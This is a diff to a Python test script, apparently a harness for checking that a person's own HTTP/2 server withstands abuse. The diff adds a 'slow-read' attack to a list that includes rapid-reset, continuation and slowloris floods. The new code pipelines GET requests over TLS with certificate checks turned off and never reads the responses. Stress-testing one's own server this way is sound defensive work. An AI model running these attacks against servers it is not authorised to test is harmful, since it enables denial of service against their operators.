@@ -8,7 +8,7 @@ Each attack prints one JSON object: what it sent and what the server did.
 
     scripts/h2-abuse.py --port 8443 ATTACK [--count N] [--server-name localhost] [--declared-length N]
 
-Attacks: rapid-reset, continuation, settings-flood, ping-flood, empty-data, slowloris, handshake-idle,
+Attacks: rapid-reset, continuation, settings-flood, ping-flood, empty-data, slowloris, slow-read, handshake-idle,
 header-size, tls-versions, connections, fingerprint, request.
 """
 import argparse
@@ -214,6 +214,36 @@ def empty_data(args):
     return result
 
 
+def slow_read(args):
+    # HTTP/1.1, pipelined GETs sent for `count` seconds, answers never read, with a small receive
+    # buffer: the server must stop reading (backpressure) and close the connection it cannot
+    # write to.
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.set_alpn_protocols(["http/1.1"])
+    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    raw.settimeout(args.timeout)
+    raw.connect((args.host, args.port))
+    sock = context.wrap_socket(raw, server_hostname=args.server_name)
+    request = b"GET /deepfence/ping HTTP/1.1\r\nHost: localhost\r\n\r\n" * 64
+    sock.settimeout(0.5)
+    start, sent, closed = time.monotonic(), 0, False
+    while time.monotonic() - start < args.count:
+        try:
+            sock.sendall(request)
+            sent += len(request)
+        except (socket.timeout, TimeoutError):
+            continue
+        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
+            closed = True
+            break
+    seconds = round(time.monotonic() - start, 2)
+    sock.close()
+    return {"attack": "slow-read", "bytes": sent, "closed": closed, "seconds": seconds}
+
+
 def handshake_idle(args):
     # TCP only: no TLS ClientHello, ever.
     sock = socket.create_connection((args.host, args.port), timeout=args.count)
@@ -324,7 +354,7 @@ def fingerprint(args):
 
 ATTACKS = {
     "rapid-reset": (rapid_reset, 1000), "continuation": (continuation, 1000), "settings-flood": (settings_flood, 1000),
-    "ping-flood": (ping_flood, 1000), "empty-data": (empty_data, 1000), "slowloris": (slowloris, 30), "handshake-idle": (handshake_idle, 30),
+    "ping-flood": (ping_flood, 1000), "empty-data": (empty_data, 1000), "slow-read": (slow_read, 20), "slowloris": (slowloris, 30), "handshake-idle": (handshake_idle, 30),
     "header-size": (header_size, 65536), "tls-versions": (tls_versions, 0), "connections": (connections, 10),
     "fingerprint": (fingerprint, 0), "request": (request, 0),
 }
